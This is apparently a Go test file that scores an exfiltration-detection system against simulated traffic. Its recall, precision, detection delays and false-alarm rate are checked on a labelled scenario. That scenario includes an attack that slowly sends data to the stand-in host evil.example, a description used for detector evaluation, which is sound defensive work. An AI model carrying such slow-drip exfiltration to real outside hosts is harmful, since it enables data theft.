package score

import (
	"net/netip"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/otelcol-exfil/otelcol-exfil/internal/alert"
	"github.com/otelcol-exfil/otelcol-exfil/test/eval/internal/arena"
	"github.com/otelcol-exfil/otelcol-exfil/test/eval/internal/corpus"
	"github.com/otelcol-exfil/otelcol-exfil/test/eval/internal/traffic"
)

const labelled = `
benign shop
  workload deployment web/shop image=i
  connect pay to=pay.example via=tls:443 every=1h send=1KiB
attack theft
  technique T1030 T1020
  rule slow_drip
  victim shop
  start d1 for 1h
  intensity 9 [1] 0.1
  connect put to=evil.example via=tls:443 every=1m send=1KiB*
`

// outcome is of a run in which the attack of intensity 9 is found, that of 1 is
// found for something else, and a workload alerts about its ordinary business.
func outcome(t *testing.T) *arena.Outcome {
	scenarios, err := corpus.Load(fstest.MapFS{"x.txt": {Data: []byte(labelled)}})
	require.NoError(t, err)
	c := traffic.New(scenarios, traffic.Options{Days: 4, Copies: 1, Victims: 1})
	o := &arena.Outcome{Cluster: c, Attacks: make(map[*traffic.Instance]*arena.Ledger)}
	day := traffic.Start.UnixNano() + int64(corpus.Day)
	for _, i := range c.Instances {
		if i.Attack == nil {
			o.Incidents = append(o.Incidents, &arena.Incident{Who: i, Opened: day, Severity: alert.Low, Body: "It paid.",
				Techniques: []string{"T1020"}, Rules: []string{"bulk_upload"}, Destination: alert.Destination{Domain: "pay.example"}})
			continue
		}
		o.Attacks[i] = &arena.Ledger{First: day, Last: day + int64(time.Hour), Bytes: 1000}
		seen := arena.Incident{Who: i, Opened: day + int64(time.Minute), Gone: 70, Techniques: []string{"T1020"}, Rules: []string{"bulk_upload"},
			Destination: alert.Destination{Domain: "evil.example", Address: netip.MustParseAddr("203.0.113.1")}}
		switch i.Intensity {
		case 9:
			seen.Techniques, seen.Rules = []string{"T1030", "T1020"}, []string{"slow_drip"}
			o.Incidents = append(o.Incidents, &seen)
		case 1:
			late := seen
			late.Opened = day + int64(2*time.Hour)
			o.Incidents = append(o.Incidents, &seen, &late)
		}
	}
	return o
}

func TestJudge(t *testing.T) {
	r := Judge(outcome(t))
	assert.Empty(t, r.Silent)
	require.Len(t, r.False, 2, "the ordinary business, and what opened long after the attack")

	tallies := make(map[string]*Tally)
	for _, tally := range append(r.Techniques(), r.Rules()...) {
		tallies[tally.Name] = tally
	}
	assert.InDelta(t, 0.5, tallies["T1030"].Recall(), 0, "the weakest attack does not count")
	assert.InDelta(t, 1, tallies["T1020"].Recall(), 0)
	assert.InDelta(t, 0.5, tallies["T1020"].Precision(), 0)
	assert.InDelta(t, 0.5, tallies["slow_drip"].Recall(), 0)
	assert.Equal(t, []time.Duration{time.Minute}, tallies["T1030"].Delays)
	assert.Equal(t, []int64{70}, tallies["T1030"].Gone)
	assert.InDelta(t, 2/(4+3*1.0)*1000, r.FalseRate(), 1e-9, "four days, and one of each victim")
}

func TestWrite(t *testing.T) {
	r := Judge(outcome(t))
	var text strings.Builder
	r.Write(&text)
	below := r.Figures(&text)
	for _, want := range []string{
		"9:1/1(1e+03B)  -[1:0/1(1e+03B)]  -0.1:0/1(1e+03B)",
		"It paid.",
		"1 of 1   1e+03B  T1030              slow_drip     1 incidents, first bulk_upload [T1020]",
		`{"figure":"eval_recall_T1030","value":0.5,"bar":0.95,"unit":"1"}`,
	} {
		assert.Contains(t, text.String(), want)
	}
	assert.Len(t, below, 2)
}

func TestQuantile(t *testing.T) {
	assert.Equal(t, 3, quantile([]int{5, 1, 2, 4, 3}, .5))
	assert.Equal(t, 5, quantile([]int{5, 1, 2, 4, 3}, .95))
	assert.Zero(t, quantile([]int{}, .5))
}
